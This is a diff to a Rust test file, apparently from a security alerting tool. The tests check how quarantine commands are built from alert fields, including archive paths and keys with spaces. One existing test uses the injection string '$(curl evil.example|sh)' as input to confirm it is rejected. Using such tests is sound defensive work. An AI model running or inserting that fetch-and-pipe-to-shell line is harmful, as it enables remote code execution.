@@ -248,8 +248,8 @@ fn of_object(key: &str, inside: &str) -> Alert {
 
 fn quarantine() -> ActionTemplate {
     ActionTemplate {
-        text: "Mark {file} in {bucket}".into(),
-        ..ActionTemplate::clone(&template("tag --bucket {bucket} --key {file}")[0])
+        text: "Mark {object} in {bucket}".into(),
+        ..ActionTemplate::clone(&template("tag --bucket {bucket} --key {object}")[0])
     }
 }
 
@@ -290,4 +290,18 @@ fn a05_a_command_that_cannot_say_what_must_be_true_first_is_left_out() {
         Some("note it first: describe sshd")
     );
     assert_eq!(told("$(curl evil.example|sh)"), (None, None));
+}
+
+#[test]
+fn a05_a_path_inside_an_archive_is_never_the_object_of_a_command() {
+    for inside in ["assets/app.js", "zz/app.js"] {
+        let action = filled(&quarantine(), &of_object("uploads/x.zip", inside), &[]);
+        assert_eq!(
+            action.and_then(|action| action.command).as_deref(),
+            Some("tag --bucket uploads --key uploads/x.zip")
+        );
+        let action = filled(&quarantine(), &of_object("uploads/x y.zip", inside), &[]).unwrap();
+        assert_eq!(action.text, "Mark uploads/x y.zip in uploads");
+        assert_eq!(action.command, None);
+    }
 }
